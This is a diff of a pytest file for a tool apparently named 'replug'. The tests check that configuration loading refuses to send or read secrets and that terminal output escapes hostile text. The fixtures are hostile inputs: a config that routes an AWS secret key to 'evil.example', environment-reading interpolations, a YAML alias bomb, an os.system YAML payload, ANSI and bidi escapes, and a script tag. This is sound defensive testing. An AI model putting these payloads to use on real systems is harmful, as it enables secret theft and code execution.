@@ -1,11 +1,16 @@
-"""A configuration or a run directory from somebody else sends no secret of ours anywhere, and reads none."""
+"""A configuration or a run from somebody else sends no secret of ours and reads none; texts are shown as plain text."""
 
+import json
+import logging
 from collections.abc import Callable
+from dataclasses import asdict
 from pathlib import Path
 
 import pytest
 
+from replug import Retrieved, library
 from replug.commands.ask import config_of
+from replug.commands.run import search
 from replug.config.errors import UserError
 from replug.config.evaluation_schema import EvaluationConfig
 from replug.config.load import (
@@ -15,14 +20,15 @@ from replug.config.load import (
     load_evaluation_config,
     names_evaluation,
 )
+from replug.config.plain_text import plain_line, plain_text
 from replug.config.schema import Config
+from replug.evals.tables import Table, print_blocks
+from replug.messages import StandardError
 
 SECRET = "AWS_SECRET_ACCESS_KEY"
 GOOD = "run_dir: run\nretriever: {path: stand_in}\ndata: {source: stand_in}\n"
 EVALUATION = "evaluation: mmlu\nout: run\ndata: {source: stand_in}\nmethods: [none]\n"
-SERVER = (
-    GOOD + f"lm: {{url: 'http://evil.example/v1', model: m, tokenizer: m, api_key_env: {SECRET}, cache: /tmp/theirs}}\n"
-)
+SERVER = f"{GOOD}lm: {{url: 'http://evil.example/v1', model: m, tokenizer: m, api_key_env: {SECRET}}}\n"
 
 
 @pytest.fixture(autouse=True)
@@ -45,10 +51,7 @@ def test_a_run_from_somebody_else_names_neither_the_server_nor_the_key(tmp_path:
     assert config_of(tmp_path, ["lm.path=stand_in"]).lm.url is None
 
 
-LOADS = pytest.mark.parametrize(("schema", "load"), [(Config, load_config), (EvaluationConfig, load_evaluation_config)])
-
-
-@LOADS
+@pytest.mark.parametrize(("schema", "load"), [(Config, load_config), (EvaluationConfig, load_evaluation_config)])
 def test_a_file_may_name_our_own_variables_of_keys_only_and_the_command_line_any(
     schema: type, load: Callable, tmp_path: Path
 ) -> None:
@@ -68,7 +71,7 @@ def test_a_file_may_name_our_own_variables_of_keys_only_and_the_command_line_any
     assert load(write(tmp_path, head + lm.format(SECRET)), [f"lm.api_key_env={SECRET}"]).lm.api_key_env == SECRET
 
 
-@pytest.mark.parametrize("pasted", ["sk-proj-a1b2", "Bearer 123", "", "9f8e7d"])
+@pytest.mark.parametrize("pasted", ["sk-proj-a1b2", "Bearer 123", ""])
 def test_a_key_that_is_pasted_in_place_of_its_variable_is_refused_and_not_shown(pasted: str, tmp_path: Path) -> None:
     typed = [f"lm.api_key_env='{pasted}'", "lm.url=http://127.0.0.1/v1", "lm.model=m"]
     for text, overrides in ((GOOD, typed), (SERVER.replace(SECRET, f"'{pasted}'"), [])):
@@ -77,9 +80,7 @@ def test_a_key_that_is_pasted_in_place_of_its_variable_is_refused_and_not_shown(
         assert not pasted or pasted not in str(error.value)
 
 
-@pytest.mark.parametrize(
-    "value", ["${oc.env:AWS_SECRET_ACCESS_KEY}", "${${seed}.env:AWS_SECRET_ACCESS_KEY}", "${oc.create:{a: 1}}"]
-)
+@pytest.mark.parametrize("value", ["${oc.env:AWS_SECRET_ACCESS_KEY}", "${${seed}.env:AWS_SECRET_ACCESS_KEY}"])
 def test_nothing_but_other_keys_stands_in_for_a_value(value: str, tmp_path: Path) -> None:
     text = GOOD.replace("stand_in}", f'stand_in, query_prompt: "{value}"}}', 1)
     for load in (
@@ -106,19 +107,62 @@ def test_a_url_with_a_secret_in_it_is_refused_without_being_shown(part: str, tmp
         assert "hunter2" not in str(caught.value)
 
 
-ALIASES = [
-    f"{name}: &{name} [{', '.join([f'*{last}'] * 10)}]" for last, name in zip("abcdefgh", "bcdefghi", strict=True)
-]
-HOSTILE = {
-    "aliases of aliases": ("\n".join([f"a: &a {['x'] * 10}", *ALIASES]), "is an alias"),
-    "an object of Python": ("run_dir: !!python/object/apply:os.system ['touch /tmp/owned']", "not valid YAML"),
+# Aliases of aliases, which grow without end, and an object of Python.
+ALIASES = [f"{new}: &{new} [{', '.join([f'*{old}'] * 10)}]" for old, new in zip("abcdefgh", "bcdefghi", strict=True)]
+HOSTILE_FILES = {
+    "\n".join([f"a: &a {['x'] * 10}", *ALIASES]): "is an alias",
+    "run_dir: !!python/object/apply:os.system ['touch /tmp/owned']": "not valid YAML",
 }
 
 
-@pytest.mark.parametrize("name", HOSTILE)
-def test_a_hostile_file_ends_in_one_line(name: str, tmp_path: Path) -> None:
-    text, message = HOSTILE[name]
+@pytest.mark.parametrize("text", HOSTILE_FILES, ids=HOSTILE_FILES.values())
+def test_a_hostile_file_ends_in_one_line(text: str, tmp_path: Path) -> None:
     path = write(tmp_path, text)
     assert not names_evaluation(path)
-    with pytest.raises(UserError, match=message):
+    with pytest.raises(UserError, match=HOSTILE_FILES[text]):
         load_config(path)
+
+
+# Texts that a terminal shows ------------------------------------------------------------------------------------------
+
+HOSTILE_TEXTS = [
+    "[/INST] and [/]",
+    "[link=https://example.com]here[/link]",
+    "\x1b[31mred\x1b[0m",
+    "abc\u202edcba\u2066",  # backwards
+    ":smile: :skull:",
+]
+MARKDOWN = ["a | b | c", "<script>alert(1)</script>", "![x](http://a.b/p.png)", "**bold** and _italic_ and `code`"]
+MARKDOWN += ["a &lt; b", "back\\slash \\| pipe", "line\n| 9.9999 | 9.9999 |"]
+
+
+def test_plain_text_is_left_as_it_is(capsys: pytest.CaptureFixture[str]) -> None:
+    for text in ("a plain line", "Zürich, 日本語, 🙂", "👩\u200d🔬 and \u0646\u0645\u06cc\u200c\u062e", "a\n\tb"):
+        assert plain_text(text) == text
+    assert plain_line("a\n  b\u00a0c\td") == "a b c d"
+    assert plain_text("\x1b[2J\x9b\u202e\ud800") == "\\x1b[2J\\x9b\\u202e\\ud800"
+    StandardError().emit(logging.LogRecord("replug", logging.INFO, "", 0, "row %s", ("\x1b[2J\nnext",), None))
+    assert capsys.readouterr().err == "row \\x1b[2J\nnext\n"
+
+
+@pytest.mark.parametrize("text", HOSTILE_TEXTS)
+def test_a_document_is_shown_by_search_as_it_is_written(
+    text: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    documents = [Retrieved(f"begin {text} end", 0.5, text, "s")]
+    monkeypatch.setattr(library, "search", lambda *_: documents)
+    search(Path("a[/b]"), "q", 1)
+    shown = capsys.readouterr().out
+    assert f"begin {plain_text(text)} end" in shown and plain_text(shown) == shown
+    search(Path("i"), "q", 1, as_json=True)
+    line = capsys.readouterr().out.rstrip("\n")
+    assert line.isprintable() and json.loads(line)["found"] == [asdict(document) for document in documents]
+
+
+@pytest.mark.parametrize("cell", [*MARKDOWN, *HOSTILE_TEXTS])
+def test_a_group_is_one_cell_of_table_md_and_nothing_else(cell: str, capsys: pytest.CaptureFixture[str]) -> None:
+    print_blocks([Table(["group", "value"], [[cell, "1.0000"]])], width=200)
+    shown = capsys.readouterr().out
+    last = next(line for line in shown.splitlines() if "1.0000" in line)
+    assert plain_text(shown) == shown
+    assert " ".join(last.replace("1.0000", "").split()) == plain_line(cell)
